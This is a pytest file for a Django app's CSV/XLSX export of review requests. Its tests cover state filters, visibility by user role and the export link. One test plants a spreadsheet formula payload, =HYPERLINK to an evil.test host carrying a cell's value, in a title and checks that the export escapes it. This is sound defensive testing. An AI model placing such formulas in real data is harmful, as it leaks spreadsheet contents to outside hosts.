"""The list of requests as a file."""

import csv
import io
from datetime import datetime

import pytest
from django.contrib.auth.models import User
from openpyxl import load_workbook

from reviews.requests.models import ReviewRequest
from tests.factories import requests as walks
from tests.factories.people import Cast
from tests.integration.reviews.requests.reading import enter

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.test/?"&A1)'


def table(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_a_title_is_no_formula(author: User, now: datetime) -> None:
    request = walks.make_draft(by=author, now=now, title=FORMULA)
    header, row = table(enter(author).get("/requests.csv").content)
    assert dict(zip(header, row, strict=True)) == {
        "Request": request.ref,
        "Title": f"'{FORMULA}",
        "State": "draft",
        "Outcome": "",
        "Model": str(request.model_version),
        "Artifact": request.model_version.digest,
        "Team": "search",
        "Environment": "prod",
        "Requester": "author",
        "Owner": "author",
        "Filed": request.created_at.isoformat(),
    }
    sheet = load_workbook(io.BytesIO(enter(author).get("/requests.xlsx").content)).active
    assert (sheet["B2"].value, sheet["B2"].data_type) == (f"'{FORMULA}", "s")


def test_a_decided_request_says_how(decided: ReviewRequest, author: User) -> None:
    assert table(enter(author).get("/requests.csv?state=decided").content)[1][2:4] == ["decided", "approved"]
    assert len(table(enter(author).get("/requests.csv?state=draft").content)) == 1


def test_a_file_holds_what_its_reader_may_see(decided: ReviewRequest, cast: Cast) -> None:
    assert len(table(enter(cast.outsider).get("/requests.csv").content)) == 1
    assert len(table(enter(cast.auditor).get("/requests.csv").content)) == 2
    assert enter(cast.author).get("/requests.pdf").status_code == 404


def test_the_page_offers_it_with_its_filters(decided: ReviewRequest, author: User) -> None:
    assert b'href="/requests.csv?state=decided"' in enter(author).get("/requests/?state=decided").content
